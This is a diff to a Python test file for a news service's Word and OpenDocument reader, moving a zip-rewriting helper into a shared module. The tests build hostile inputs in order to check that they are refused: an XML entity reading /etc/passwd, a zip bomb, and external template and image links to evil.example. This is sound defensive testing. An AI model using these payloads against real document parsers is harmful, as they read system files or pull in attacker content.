@@ -21,6 +21,7 @@ from service.stages.clean import HEADING, PARAGRAPH, Article, Block, Removed
 from service.errors import InvalidInput, TooLarge
 from service.stages.office import Limits, read_office
 from service.stages.documents import read_document
+from tests.hostile_files import with_parts
 
 W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
 
@@ -150,7 +151,7 @@ def test_an_opendocument_outline_has_its_heading_as_title_and_a_title_style_wins
 
 
 def test_word_footnotes_and_comments_are_kept_apart():
-    data = _with_parts(word_article(), {
+    data = with_parts(word_article(), {
         "word/footnotes.xml": (
             '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:t>---</w:t></w:r></w:p></w:footnote>'
@@ -250,20 +251,8 @@ def test_a_span_whose_translation_is_not_in_the_sentence_leaves_the_sentence_in_
     assert [(run.text, run.bold) for run in runs] == [("[The talks with the port authority resumed on Monday.]", None)]
 
 
-def _with_parts(data: bytes, replaced: dict[str, str | bytes]) -> bytes:
-    source = zipfile.ZipFile(io.BytesIO(data))
-    output = io.BytesIO()
-    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
-        for info in source.infolist():
-            if info.filename not in replaced:
-                archive.writestr(info, source.read(info))
-        for part, content in replaced.items():
-            archive.writestr(part, content)
-    return output.getvalue()
-
-
 def test_a_zip_bomb_is_refused_before_it_is_unpacked():
-    bomb = _with_parts(word_article(), {"word/media/padding.bin": b"\0" * 5_000_000})
+    bomb = with_parts(word_article(), {"word/media/padding.bin": b"\0" * 5_000_000})
     with pytest.raises(TooLarge) as refused:
         read_office("bomb.docx", bomb, limits=Limits())
     size = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
@@ -278,7 +267,7 @@ def test_xml_entities_are_refused():
     hostile = original.replace("<w:document", '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                               "<w:document", 1)
     with pytest.raises(InvalidInput) as refused:
-        read_office("xxe.docx", _with_parts(word_article(), {"word/document.xml": hostile}), limits=Limits())
+        read_office("xxe.docx", with_parts(word_article(), {"word/document.xml": hostile}), limits=Limits())
     assert str(refused.value) == (
         "xxe.docx declares XML entities in word/document.xml (a DOCTYPE), which Word and LibreOffice never write "
         "and attacks use to read files: save the document again from Word or LibreOffice")
@@ -291,10 +280,10 @@ def test_a_link_to_an_outside_template_is_refused_but_hyperlinks_are_not():
             'TargetMode="External"/>')
     template = (f'<Relationship Id="rId91" Type="{base}attachedTemplate" Target="http://evil.example/t.dotm" '
                 'TargetMode="External"/>')
-    fine = _with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace("</Relationships>",
+    fine = with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace("</Relationships>",
                                                                                       link + "</Relationships>")})
     assert read_office("links.docx", fine, limits=Limits()).text.startswith("Harbour strike ends\n")
-    hostile = _with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace(
+    hostile = with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace(
         "</Relationships>", template + "</Relationships>")})
     with pytest.raises(InvalidInput) as refused:
         read_office("template.docx", hostile, limits=Limits())
@@ -310,7 +299,7 @@ def test_an_opendocument_picture_from_outside_is_refused():
              '</draw:frame>')
     hostile = content.replace("</text:h>", frame + "</text:h>", 1)
     with pytest.raises(InvalidInput) as refused:
-        read_office("picture.odt", _with_parts(opendocument_article(), {"content.xml": hostile}), limits=Limits())
+        read_office("picture.odt", with_parts(opendocument_article(), {"content.xml": hostile}), limits=Limits())
     assert str(refused.value) == (
         "picture.odt links to an outside file as its image (http://evil.example/p.png) in content.xml; newsdesk "
         "never fetches anything: save the document with that file embedded, or without it")
@@ -332,7 +321,7 @@ def test_a_file_that_is_not_a_document_gets_a_message(name, data, message):
 def test_an_opendocument_space_count_that_is_no_small_number_reads_as_spaces_not_an_error(count):
     content = opendocument_article_content()
     assert content.count("normal by Friday.") == 1
-    data = _with_parts(opendocument_article(), {"content.xml": content.replace(
+    data = with_parts(opendocument_article(), {"content.xml": content.replace(
         "normal by Friday.", f'normal by<text:s text:c="{count}"/>Friday.')})
     document = read_office("strike.odt", data, limits=Limits())
     assert "Operators said traffic would be normal by Friday." in document.text.split("\n")[1]
@@ -343,7 +332,7 @@ def opendocument_article_content() -> str:
 
 
 def test_a_spreadsheet_renamed_odt_is_refused():
-    spreadsheet = _with_parts(opendocument_article(), {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})
+    spreadsheet = with_parts(opendocument_article(), {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})
     with pytest.raises(InvalidInput, match=r"^sheet.odt is not an OpenDocument text \(.odt\): save it as .odt"):
         read_document("sheet.odt", spreadsheet)
 
